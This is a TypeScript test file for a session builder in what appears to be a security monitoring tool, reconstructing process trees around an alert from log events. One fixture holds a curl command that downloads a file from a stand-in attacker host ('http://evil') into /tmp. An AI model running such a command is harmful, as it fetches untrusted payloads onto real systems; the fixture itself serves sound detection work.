import { describe, expect, it } from 'vitest';
import type { EventHit } from '../../store/ports';
import { processEvent } from '../../testing/events';
import { buildSession } from './session-service';

const t0 = Date.UTC(2026, 0, 1, 12);
const hit = (source: Record<string, unknown>, id: string): EventHit => ({ _index: 'logs-cloud_defend.process-default', _id: id, _source: source });

describe('buildSession', () => {
  const before = processEvent({ at: t0 - 1000, entityId: 'early', entryLeaderId: 'shell', entryLeader: false, name: 'sleep' });
  const shell = processEvent({ at: t0, entityId: 'shell', entryLeaderId: 'shell', name: 'bash' });
  const id1 = processEvent({ at: t0 + 1000, entityId: 'id-cmd', parentEntityId: 'shell', entryLeaderId: 'shell', entryLeader: false, name: 'id' });
  const forked = processEvent({ at: t0 + 2000, entityId: 'curl', parentEntityId: 'shell', entryLeaderId: 'shell', entryLeader: false, name: 'bash' });
  const execd = processEvent({ at: t0 + 2000, entityId: 'curl', parentEntityId: 'shell', entryLeaderId: 'shell', entryLeader: false, name: 'curl', args: ['curl', '-o', '/tmp/x', 'http://evil'] });
  (forked.event as Record<string, unknown>).action = 'fork';

  it('dedupes by entity_id, keeps the exec name, marks the alert process and what came after', () => {
    const s = buildSession(shell, [hit(before, '0'), hit(shell, '1'), hit(id1, '2'), hit(forked, '3'), hit(execd, '4')], false);
    expect(s.entry_leader_entity_id).toBe('shell');
    expect(s.processes.map((p) => p.entity_id)).toEqual(['early', 'shell', 'id-cmd', 'curl']);
    const byId = Object.fromEntries(s.processes.map((p) => [p.entity_id, p]));
    expect(byId.shell?.is_alert_process).toBe(true);
    expect(byId.shell?.is_subsequent).toBe(false);
    expect(byId.early?.is_subsequent).toBe(false);
    expect(byId['id-cmd']?.is_subsequent).toBe(true);
    expect(byId.curl?.name).toBe('curl');
    expect(byId.curl?.args).toEqual(['curl', '-o', '/tmp/x', 'http://evil']);
    expect(byId.curl?.parent_entity_id).toBe('shell');
    expect(s.truncated).toBe(false);
  });

  it('shows the alert process alone when no session events are stored', () => {
    const s = buildSession(shell, [], true);
    expect(s.processes).toHaveLength(1);
    expect(s.processes[0]?.is_alert_process).toBe(true);
    expect(s.truncated).toBe(true);
  });
});
